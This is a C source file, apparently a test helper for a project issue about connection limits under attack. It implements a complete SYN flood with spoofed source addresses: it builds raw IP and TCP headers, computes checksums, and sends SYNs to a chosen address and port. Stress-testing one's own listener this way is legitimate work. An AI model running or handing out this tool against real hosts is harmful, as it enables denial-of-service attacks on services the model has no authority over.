/* Half-open connections by the thousand (issue #13, bounds under attack):
 * raw IPv4 TCP SYNs, each from its own source port, from a source address
 * that nobody answers for, so that the listener's SYN-ACKs go nowhere and
 * no RST ever closes what the SYN opened. Run it in the sending namespace.
 *   syn_flood --from ADDR --to ADDR --port PORT --count N [--first-port P]
 * Prints "sent N" and exits 0. Needs CAP_NET_RAW. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char* what) {
  perror(what);
  _exit(1);
}

static uint16_t checksum(const void* data, size_t len, uint32_t sum) {
  const uint8_t* p = data;
  for (; len > 1; p += 2, len -= 2) sum += (uint32_t)(p[0] << 8 | p[1]);
  if (len) sum += (uint32_t)(p[0] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

int main(int argc, char** argv) {
  static const struct option longopts[] = {
      {"from", required_argument, NULL, 'f'},       {"to", required_argument, NULL, 't'},
      {"port", required_argument, NULL, 'p'},       {"count", required_argument, NULL, 'n'},
      {"first-port", required_argument, NULL, 's'}, {NULL, 0, NULL, 0}};
  struct in_addr from = {0}, to = {0};
  long port = 0, count = 0, first = 20000;
  int c;
  while ((c = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
    switch (c) {
      case 'f':
        if (inet_pton(AF_INET, optarg, &from) != 1) die("--from");
        break;
      case 't':
        if (inet_pton(AF_INET, optarg, &to) != 1) die("--to");
        break;
      case 'p': port = strtol(optarg, NULL, 10); break;
      case 'n': count = strtol(optarg, NULL, 10); break;
      case 's': first = strtol(optarg, NULL, 10); break;
      default:
        fprintf(stderr, "usage: %s --from ADDR --to ADDR --port PORT --count N [--first-port P]\n", argv[0]);
        return 2;
    }
  }
  if (!from.s_addr || !to.s_addr || port < 1 || port > 65535 || count < 1 || first < 1 || first + count > 65536) {
    fprintf(stderr, "syn_flood: --from, --to, --port and --count are needed; ports must fit below 65536\n");
    return 2;
  }
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IP_HDRINCL implied: our header, our source */
  if (fd < 0) die("socket");
  struct sockaddr_in dst = {.sin_family = AF_INET, .sin_addr = to};
  for (long i = 0; i < count; ++i) {
    struct {
      struct iphdr ip;
      struct tcphdr tcp;
    } pkt;
    memset(&pkt, 0, sizeof pkt);
    pkt.ip.ihl = 5;
    pkt.ip.version = 4;
    pkt.ip.ttl = 64;
    pkt.ip.protocol = IPPROTO_TCP;
    pkt.ip.tot_len = htons(sizeof pkt);
    pkt.ip.id = htons((uint16_t)i);
    pkt.ip.saddr = from.s_addr;
    pkt.ip.daddr = to.s_addr;
    pkt.tcp.source = htons((uint16_t)(first + i));
    pkt.tcp.dest = htons((uint16_t)port);
    pkt.tcp.seq = htonl((uint32_t)(0x5eed0000u + (uint32_t)i));
    pkt.tcp.doff = 5;
    pkt.tcp.syn = 1;
    pkt.tcp.window = htons(64240);
    /* The TCP checksum covers a pseudo-header: addresses, protocol, length. */
    uint32_t pseudo = (ntohl(from.s_addr) >> 16) + (ntohl(from.s_addr) & 0xffff) + (ntohl(to.s_addr) >> 16) +
                      (ntohl(to.s_addr) & 0xffff) + IPPROTO_TCP + sizeof pkt.tcp;
    pkt.tcp.check = htons(checksum(&pkt.tcp, sizeof pkt.tcp, pseudo));
    pkt.ip.check = htons(checksum(&pkt.ip, sizeof pkt.ip, 0));
    if (sendto(fd, &pkt, sizeof pkt, 0, (struct sockaddr*)&dst, sizeof dst) != (ssize_t)sizeof pkt) die("sendto");
  }
  printf("sent %ld\n", count);
  return 0;
}
